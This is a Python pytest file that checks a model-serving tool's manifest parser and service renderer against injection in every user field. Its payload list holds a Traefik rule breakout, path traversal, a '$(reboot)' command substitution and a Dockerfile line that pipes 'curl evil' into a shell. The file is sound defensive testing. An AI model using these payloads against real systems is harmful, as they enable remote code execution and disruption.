"""Nothing a user writes reaches a Traefik rule, a middleware address, a
Dockerfile or a path unvalidated: injection attempts in every field."""

from __future__ import annotations

import json

import pytest
from aiart.core.render import render_service
from aiart.core.settings import OperatorSettings
from aiart.core.spec import ManifestError, parse_manifest

INJECTIONS = [
    "iris`) || PathPrefix(`/",
    "a/../../etc",
    "x&mode=none",
    "x\nRUN curl evil | sh",
    "$(reboot)",
    "a" * 300,
    "",
]


def manifest(**fields: str) -> str:
    base = {"name": "iris", "version": "'1'", "uri": "'config://iris-model-1'",
            "extra": ""}
    base.update(fields)
    return (f"apiVersion: aiart/v1\nkind: Model\n"
            f"metadata: {{name: {base['name']}, version: {base['version']}}}\n"
            f"spec:\n  runtime: sklearn\n  artifact: {{uri: {base['uri']}}}\n{base['extra']}")


FIELDS = ["name", "version", "uri", "scope", "requirement", "env_name", "label_key", "tensor"]
# Legal where they are: scopes and tensor names are URIs and paths by nature
# (they only reach a query string or model.json), and a long identifier is a
# legal environment variable name.
LEGAL = {("scope", "a/../../etc"), ("tensor", "a/../../etc"), ("env_name", "a" * 300)}


@pytest.mark.parametrize(("field", "payload"), [
    (f, p) for f in FIELDS for p in INJECTIONS if (f, p) not in LEGAL])
def test_structured_fields_refuse_injections(field: str, payload: str) -> None:
    value = json.dumps(payload)  # YAML reads a JSON string as is
    text = {
        "name": manifest(name=value),
        "version": manifest(version=value),
        "uri": manifest(uri=json.dumps(f"config://{payload}")),
        "scope": manifest(extra=f"  auth: {{mode: oidc, scopes: [{value}]}}\n"),
        "requirement": manifest().replace("runtime: sklearn", "runtime: python")
        + f"  requirements: [{value}]\n",
        "env_name": manifest(extra=f"  env: {{{value}: x}}\n"),
        "label_key": manifest().replace("version: '1'", f"version: '1', labels: {{{value}: x}}"),
        "tensor": manifest(extra=f"  inputs: [{{name: {value}, datatype: FP64, shape: [1]}}]\n"),
    }[field]
    with pytest.raises(ManifestError):
        parse_manifest(text)


@pytest.mark.parametrize("payload", [f"ZQX{p}" for p in INJECTIONS[:5]])
def test_free_text_never_reaches_a_traefik_label(payload: str) -> None:
    value = json.dumps(payload)
    text = manifest().replace("version: '1'", f"version: '1', description: {value}, "
                              f"labels: {{team: {value}}}") + f"  env: {{NOTE: {value}}}\n"
    spec = render_service(manifest=parse_manifest(text), config_id="c", image="i",
                          settings=OperatorSettings(), current=True, ordinal=0)
    for key, label in spec["Labels"].items():
        assert payload not in key and payload not in label
    # The value reaches the container's environment as one plain entry, not a shell.
    assert f"NOTE={payload}" in spec["TaskTemplate"]["ContainerSpec"]["Env"]
